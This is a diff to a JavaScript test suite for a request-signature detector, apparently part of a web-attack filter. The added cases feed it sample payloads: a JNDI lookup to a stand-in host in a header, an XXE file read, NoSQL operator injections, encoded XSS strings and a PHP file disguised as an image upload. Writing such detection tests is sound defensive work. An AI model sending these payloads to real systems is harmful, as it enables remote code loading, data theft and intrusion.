@@ -24,6 +24,12 @@ describe('ENG-04 signatures of a request', () => {
     ['XML', body('application/xml', `<a><b c="${ATTACK.replaceAll("'", '&apos;')}">1</b></a>`), 'body a.b.@c sql'],
     ['XML entities', body('application/xml', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]><a>&x;</a>'), 'body  xxe'],
     ['text', body('text/plain', ATTACK), 'body  sql'],
+    ['operator with a number', { ...exampleExchange({ method: 'POST' }), requestBody: exampleJson({ price: { $gt: 0 }, active: { $ne: false } }) }, 'body price.$gt noSql'],
+    ['skipped header', exampleExchange({ requestHeaders: [['accept-encoding', 'gzip, ${jndi:ldap://elsewhere.example/a}']] }), 'header accept-encoding jndi'],
+    ['cookie in base64', exampleExchange({ requestHeaders: [['cookie', `theme=dark; cart=${Buffer.from('<script>alert(7)</script>').toString('base64')}`]] }), 'cookie cart xss'],
+    ['form in base64', body('application/x-www-form-urlencoded', `a=1&b=${Buffer.from('<script>alert(7)</script>').toString('base64')}`), 'body b xss'],
+    ['XML with percent', body('application/xml', '<%0aimg src=x onerror=alert(7)>'), 'body  xss'],
+    ['picture that a server runs', body('multipart/form-data; boundary=p', '--p\r\nContent-Disposition: form-data; name="f"; filename="a.php.png"\r\n\r\nx\r\n--p--\r\n'), 'body filename code'],
     ['operator in a name', exampleExchange({ query: [['password[$ne]', 'x']] }), 'query password[$ne] noSql'],
   ];
   for (const [what, exchange, found] of places) {
@@ -32,6 +38,15 @@ describe('ENG-04 signatures of a request', () => {
       assert.ok(isSuspect(requestSignatures(exchange)));
     });
   }
+
+  test('say little of relations in a name and of cookies by an old grammar', () => {
+    for (const exchange of [exampleExchange({ query: [['owner__team__secret__startswith', 'a']] }), exampleExchange({ requestHeaders: [['cookie', '$Version=1; a="b; c=d"']] })]) {
+      assert.equal(requestSignatures(exchange).length, 1);
+      assert.equal(isSuspect(requestSignatures(exchange)), false);
+    }
+  });
+
+  test('leave a path whose last name is one of a script', () => assert.deepEqual(foundIn(exampleExchange({ path: '/manual/document.cookie' })), []));
 
   test('name a scanner by its agent', () => assert.deepEqual(foundIn(exampleExchange({ requestHeaders: [['user-agent', 'sqlmap/1.7']] })), ['header user-agent scanner']));
 
